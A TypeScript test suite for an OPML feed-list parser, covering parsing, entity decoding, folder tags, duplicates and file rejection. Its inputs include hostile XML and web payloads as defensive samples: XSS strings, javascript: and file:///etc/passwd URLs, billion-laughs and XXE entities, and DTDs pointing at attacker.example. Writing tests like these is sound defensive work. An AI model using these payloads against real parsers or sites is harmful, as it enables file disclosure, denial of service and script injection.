import { describe, expect, it } from 'vitest';
import { OpmlError, parseOpml, type OpmlFeed } from './parse-opml.ts';

function opml(body: string, head = '<head><title>My feeds</title></head>'): string {
  return `<?xml version="1.0" encoding="UTF-8"?>\n<opml version="2.0">\n${head}\n<body>\n${body}\n</body>\n</opml>\n`;
}

function errorOf(run: () => unknown): OpmlError {
  try {
    run();
  } catch (error) {
    if (error instanceof OpmlError) return error;
    throw error;
  }
  throw new Error('expected an OpmlError');
}

describe('parseOpml: valid lists', () => {
  const cases: [string, string, Partial<{ title: string }>, OpmlFeed[]][] = [
    [
      'OPML 2.0 flat list',
      opml('<outline type="rss" text="Julia Evans" title="Julia Evans" xmlUrl="https://jvns.ca/atom.xml" htmlUrl="https://jvns.ca/"/>'),
      { title: 'My feeds' },
      [{ feedUrl: 'https://jvns.ca/atom.xml', title: 'Julia Evans', siteUrl: 'https://jvns.ca/', tags: [] }],
    ],
    [
      'OPML 1.0 with url on type="rss" and no head title',
      '<?xml version="1.0"?><opml version="1.0"><head></head><body><outline type="rss" title="Scripting News" url="http://scripting.com/rss.xml"/></body></opml>',
      {},
      [{ feedUrl: 'http://scripting.com/rss.xml', title: 'Scripting News', tags: [] }],
    ],
    [
      'nested folders become tags, outermost first',
      opml('<outline text="Tech"><outline text="Rust"><outline type="rss" text="This Week in Rust" xmlUrl="https://this-week-in-rust.org/rss.xml"/></outline><outline type="rss" text="LWN" xmlUrl="https://lwn.net/headlines/rss"/></outline><outline type="rss" text="Top" xmlUrl="https://example.com/top.xml"/>'),
      { title: 'My feeds' },
      [
        { feedUrl: 'https://this-week-in-rust.org/rss.xml', title: 'This Week in Rust', tags: ['Tech', 'Rust'] },
        { feedUrl: 'https://lwn.net/headlines/rss', title: 'LWN', tags: ['Tech'] },
        { feedUrl: 'https://example.com/top.xml', title: 'Top', tags: [] },
      ],
    ],
    [
      'case-insensitive attribute and tag names',
      opml('<OUTLINE TEXT="Upper" XMLURL="https://a.example/feed" HTMLURL="https://a.example/"/><outline text="lower" xmlurl="https://b.example/feed" htmlurl="https://b.example/"/>'),
      { title: 'My feeds' },
      [
        { feedUrl: 'https://a.example/feed', title: 'Upper', siteUrl: 'https://a.example/', tags: [] },
        { feedUrl: 'https://b.example/feed', title: 'lower', siteUrl: 'https://b.example/', tags: [] },
      ],
    ],
    [
      'entities and numeric references decoded, host lower-cased, fragment dropped',
      opml('<outline text="Caf&#233; &amp; Cr&#xE8;me &quot;q&quot; &apos;s&apos;" xmlUrl="https://EXAMPLE.com/feed?a=1&amp;b=2#top"/>', '<head><title>A &lt;b&gt;bold&lt;/b&gt; list</title></head>'),
      { title: 'A bold list' },
      [{ feedUrl: 'https://example.com/feed?a=1&b=2', title: 'Café & Crème "q" \'s\'', tags: [] }],
    ],
    [
      'bare ampersand in a URL kept literally',
      opml('<outline text="Bare" xmlUrl="https://example.com/feed?a=1&b=2"/>'),
      { title: 'My feeds' },
      [{ feedUrl: 'https://example.com/feed?a=1&b=2', title: 'Bare', tags: [] }],
    ],
    [
      'script in a title is inert text, markup removed',
      opml('<outline text="&lt;script&gt;alert(1)&lt;/script&gt;Blog &lt;img src=x onerror=alert(2)&gt;" xmlUrl="https://evil.example/feed"/>'),
      { title: 'My feeds' },
      [{ feedUrl: 'https://evil.example/feed', title: 'alert(1) Blog', tags: [] }],
    ],
    [
      'angle brackets that are not HTML survive',
      opml('<outline text="Vec&lt;T&gt; &amp; a &lt; b" xmlUrl="https://rust.example/feed"/>'),
      { title: 'My feeds' },
      [{ feedUrl: 'https://rust.example/feed', title: 'Vec<T> & a < b', tags: [] }],
    ],
    [
      'title attribute used when text is absent; whitespace collapsed',
      opml('<outline title="  Many \n\t spaces  " xmlUrl="https://s.example/feed"/>'),
      { title: 'My feeds' },
      [{ feedUrl: 'https://s.example/feed', title: 'Many spaces', tags: [] }],
    ],
    [
      'feed: pseudo-scheme unwrapped',
      opml('<outline text="F1" xmlUrl="feed://f1.example/rss"/><outline text="F2" xmlUrl="feed:https://f2.example/rss"/>'),
      { title: 'My feeds' },
      [
        { feedUrl: 'http://f1.example/rss', title: 'F1', tags: [] },
        { feedUrl: 'https://f2.example/rss', title: 'F2', tags: [] },
      ],
    ],
    [
      'untitled feed, invalid htmlUrl dropped, empty folder ignored',
      opml('<outline xmlUrl="https://u.example/feed" htmlUrl="javascript:alert(1)"/><outline text="Empty folder"/>'),
      { title: 'My feeds' },
      [{ feedUrl: 'https://u.example/feed', tags: [] }],
    ],
    [
      'BOM, comments, CDATA title and harmless DOCTYPE',
      '\uFEFF<?xml version="1.0"?>\n<!DOCTYPE opml>\n<!-- exported --><opml version="2.0"><head><title><![CDATA[Tom & Jerry]]></title></head><body><outline text="x" xmlUrl="https://x.example/f"/></body></opml>',
      { title: 'Tom & Jerry' },
      [{ feedUrl: 'https://x.example/f', title: 'x', tags: [] }],
    ],
    [
      'external DTD reference is never fetched and not needed',
      '<?xml version="1.0"?><!DOCTYPE opml SYSTEM "http://attacker.example/evil.dtd"><opml><body><outline text="x" xmlUrl="https://x.example/f"/></body></opml>',
      {},
      [{ feedUrl: 'https://x.example/f', title: 'x', tags: [] }],
    ],
    [
      'wrong types: numeric title, outline inside head ignored, body text ignored',
      '<opml><head><outline text="no" xmlUrl="https://head.example/f"/></head><body>stray text<outline text="42" xmlUrl="https://n.example/f"/></body></opml>',
      {},
      [{ feedUrl: 'https://n.example/f', title: '42', tags: [] }],
    ],
    ['empty body', opml(''), { title: 'My feeds' }, []],
    ['no body at all', '<opml version="2.0"><head/></opml>', {}, []],
  ];

  it.each(cases)('%s', (_why, text, meta, feeds) => {
    const result = parseOpml(text);
    expect(result.title).toBe(meta.title);
    expect(result.feeds).toEqual(feeds);
    expect(result.problems).toEqual([]);
  });
});

describe('parseOpml: problems', () => {
  const cases: [string, string, { kind: string; line: number; mentions: string }[], number][] = [
    [
      'relative, javascript: and file: URLs',
      opml('<outline text="Relative" xmlUrl="/feed.xml"/>\n<outline text="JS" xmlUrl="javascript:alert(1)"/>\n<outline text="File" xmlUrl="file:///etc/passwd"/>'),
      [
        { kind: 'invalid-url', line: 5, mentions: '“Relative” (line 5)' },
        { kind: 'invalid-url', line: 6, mentions: '"javascript:"' },
        { kind: 'invalid-url', line: 7, mentions: '"file:"' },
      ],
      0,
    ],
    [
      'missing and empty feed addresses',
      opml('<outline type="rss" text="No URL"/>\n<outline text="Blank" xmlUrl="   "/>\n<outline type="link" text="A link" url="https://example.com/"/>\n<outline htmlUrl="https://site.example/"/>'),
      [
        { kind: 'missing-url', line: 5, mentions: '“No URL”' },
        { kind: 'missing-url', line: 6, mentions: 'empty feed address' },
        { kind: 'missing-url', line: 7, mentions: '“A link”' },
        { kind: 'missing-url', line: 8, mentions: 'An untitled entry (line 8)' },
      ],
      0,
    ],
    [
      'duplicates by URL ignoring host case and fragment',
      opml('<outline text="A" xmlUrl="https://dup.example/feed"/>\n<outline text="Copy" xmlUrl="https://DUP.example/feed#x"/>'),
      [{ kind: 'duplicate', line: 6, mentions: '“Copy” (line 6) is listed more than once' }],
      1,
    ],
    [
      'CRLF line endings still give the right lines',
      '<opml>\r\n<body>\r\n<outline text="ok" xmlUrl="https://ok.example/f"/>\r\n<outline text="bad" xmlUrl="ftp://bad.example/f"/>\r\n</body>\r\n</opml>',
      [{ kind: 'invalid-url', line: 4, mentions: '“bad” (line 4)' }],
      1,
    ],
  ];

  it.each(cases)('%s', (_why, text, expected, feedCount) => {
    const result = parseOpml(text);
    expect(result.feeds).toHaveLength(feedCount);
    expect(result.problems.map((p) => ({ kind: p.kind, line: p.line }))).toEqual(expected.map((e) => ({ kind: e.kind, line: e.line })));
    expected.forEach((e, i) => expect(result.problems[i]?.text).toContain(e.mentions));
  });

  it('merges the folders of a feed listed in several categories (Feedly style)', () => {
    const result = parseOpml(opml('<outline text="Dev"><outline text="X" xmlUrl="https://x.example/f"/></outline><outline text="Fun"><outline text="X" xmlUrl="https://x.example/f"/></outline>'));
    expect(result.feeds).toEqual([{ feedUrl: 'https://x.example/f', title: 'X', tags: ['Dev', 'Fun'] }]);
    expect(result.problems.map((p) => p.kind)).toEqual(['duplicate']);
  });
});

describe('parseOpml: refused files', () => {
  const billionLaughs = '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><opml><head><title>&lol3;</title></head><body/></opml>';
  const xxe = '<?xml version="1.0"?><!DOCTYPE opml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><opml><body><outline text="&xxe;" xmlUrl="https://x.example/f"/></body></opml>';
  const parameterEntity = '<!DOCTYPE opml [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]><opml/>';
  const cases: [string, string, string][] = [
    ['empty string', '', 'not-opml'],
    ['plain text', 'hello world', 'not-opml'],
    ['JSON', '{"feeds": []}', 'not-opml'],
    ['an RSS feed', '<?xml version="1.0"?><rss version="2.0"><channel><title>x</title></channel></rss>', 'not-opml'],
    ['an Atom feed', '<feed xmlns="http://www.w3.org/2005/Atom"><title>x</title></feed>', 'not-opml'],
    ['an HTML page', '<html><head><title>x</title></head><body></body></html>', 'not-opml'],
    ['some other XML', '<subscriptions><feed url="x"/></subscriptions>', 'not-opml'],
    ['truncated file', '<opml version="2.0"><body><outline text="x" xmlUrl="https://x.example/f"/>', 'malformed'],
    ['mismatched tags', '<opml><body><outline text="x"></body></opml>', 'malformed'],
    ['unquoted attribute', '<opml><body><outline text=x xmlUrl="https://x.example/f"/></body></opml>', 'malformed'],
    ['repeated attribute', '<opml><body><outline text="a" text="b"/></body></opml>', 'malformed'],
    ['nested 500 levels deep', `<opml><body>${'<outline text="f">'.repeat(500)}${'</outline>'.repeat(500)}</body></opml>`, 'malformed'],
    ['billion laughs', billionLaughs, 'malformed'],
    ['XXE external entity', xxe, 'malformed'],
    ['parameter entity', parameterEntity, 'malformed'],
  ];

  it.each(cases)('%s → %s', (_why, text, code) => {
    const error = errorOf(() => parseOpml(text));
    expect(error.code).toBe(code);
    expect(error.message).toMatch(/^This /);
  });

  it('never expands or leaks entity content', () => {
    expect(() => parseOpml(xxe)).toThrow(/refuses for safety/);
  });

  it('reports the damaged line', () => {
    const error = errorOf(() => parseOpml('<opml>\n<body>\n<outline text="x">\n</body>\n</opml>'));
    expect(error.code).toBe('malformed');
    expect(error.line).toBe(4);
    expect(error.message).toContain('line 4');
  });

  it('refuses a 50 MB file before parsing it', () => {
    const huge = `<opml><body>${' '.repeat(50 * 1024 * 1024)}</body></opml>`;
    const error = errorOf(() => parseOpml(huge));
    expect(error.code).toBe('too-large');
    expect(error.message).toContain('20 MB');
  });

  it.each([
    ['ASCII over the limit', 'a'.repeat(1025), 1024, true],
    ['ASCII at the limit', `<opml>${' '.repeat(1024 - 13)}</opml>`, 1024, false],
    ['multi-byte text over the limit in bytes but not characters', `<opml><head><title>${'é'.repeat(600)}</title></head></opml>`, 1024, true],
    ['emoji counted as 4 bytes', `<opml><head><title>${'😀'.repeat(250)}</title></head></opml>`, 1024, true],
  ])('maxBytes counts UTF-8 bytes: %s', (_why, text, maxBytes, refused) => {
    const run = (): unknown => parseOpml(text, { maxBytes });
    if (refused) expect(errorOf(run).code).toBe('too-large');
    else expect(run()).toEqual({ feeds: [], problems: [] });
  });
});

describe('parseOpml: scale', () => {
  it('parses 1,000 feeds in folders', () => {
    const outlines: string[] = [];
    for (let folder = 0; folder < 20; folder++) {
      const feeds = Array.from({ length: 50 }, (_, i) => {
        const n = folder * 50 + i;
        return `<outline type="rss" text="Blog ${n} &amp; co" xmlUrl="https://blog${n}.example.com/feed.xml?x=1&amp;y=2" htmlUrl="https://blog${n}.example.com/"/>`;
      });
      outlines.push(`<outline text="Folder ${folder}">\n${feeds.join('\n')}\n</outline>`);
    }
    const result = parseOpml(opml(outlines.join('\n')));
    expect(result.feeds).toHaveLength(1000);
    expect(result.problems).toEqual([]);
    expect(result.feeds[999]).toEqual({
      feedUrl: 'https://blog999.example.com/feed.xml?x=1&y=2',
      title: 'Blog 999 & co',
      siteUrl: 'https://blog999.example.com/',
      tags: ['Folder 19'],
    });
  });

  it('stays linear on a hostile title full of "<"', () => {
    const result = parseOpml(opml(`<outline text="${'&lt;b '.repeat(200_000)}" xmlUrl="https://x.example/f"/>`));
    expect(result.feeds[0]?.title?.length).toBeLessThanOrEqual(1000);
  });
});
